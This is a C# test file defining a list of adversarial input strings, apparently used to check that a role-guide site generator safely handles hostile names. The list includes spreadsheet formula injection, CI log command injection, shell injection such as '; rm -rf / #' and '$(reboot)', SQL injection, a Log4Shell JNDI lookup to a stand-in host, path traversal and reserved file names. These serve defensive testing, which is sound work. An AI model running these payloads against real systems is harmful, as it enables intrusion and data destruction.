using System.Collections.Immutable;

namespace RoleGuide.Proofs.Payloads;

/// <summary>Texts that other programs would take for something: spreadsheets, hosts, shells, logs of a build; and names that systems keep for themselves.</summary>
internal static class OtherPayloads
{
    private static readonly ImmutableArray<string> s_texts =
    [
        "=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1-1", "@SUM(1)", "\t=1+1", "\u00A0=1+1", "\u3000@a", "a\",\"=1", "a\"\n=1", "a;=1", "＝1+1",
        "a b 301!", "/x https://evil.example 200!", "/* /x 200", "/roles/*\n  X-Evil: 1", "  Content-Security-Policy: *", "Set-Cookie: a=b", "# comment",
        "::error file=x::y", "::set-output name=a::b", "##[stop-commands]x", "::stop-commands::x", "%0A::error::x",
        "$(reboot)", "`reboot`", "; rm -rf / #", "| cat", "&& x", "%PATH%", "${IFS}", "--output=/", "-o/", "../x", "./", "..", ".", "/", "\\", "con", "CON.md", "aux", "nul", "com1", "lpt9", "index", "404", "_headers", "_redirects", "assets", "data", "manifest", "sitemap", "robots",
        "account-director", "Account director", "ACCOUNT DIRECTOR", "account-manager", "Account manager", "account manager", "a-vs-b", "account-director-vs-account-manager", "-", "--", "-a", "a-", "a--b", "a_b", "A", "ä", "ａ",
        "' OR 1=1 --", "\"; DROP TABLE x; --", "{\"$gt\":\"\"}", "${jndi:ldap://evil.example/x}", "%s%n%x", "{0}{1}{99}", "{0:C}", "\\r\\n", "\\0", "__proto__", "constructor", "toString", "hasOwnProperty", "NaN", "undefined", "Infinity",
        new string('a', 200), new string('a', 5_000), new string('&', 300), new string('"', 300), new string('<', 190), new string('\\', 300), new string('é', 3_000), string.Concat(Enumerable.Repeat("a-", 100)), string.Concat(Enumerable.Repeat("a ", 2_000)), string.Concat(Enumerable.Repeat("😀", 700)),
    ];

    public static readonly ImmutableArray<Payload> All = [.. s_texts.Select(text => new Payload("other", text))];
}
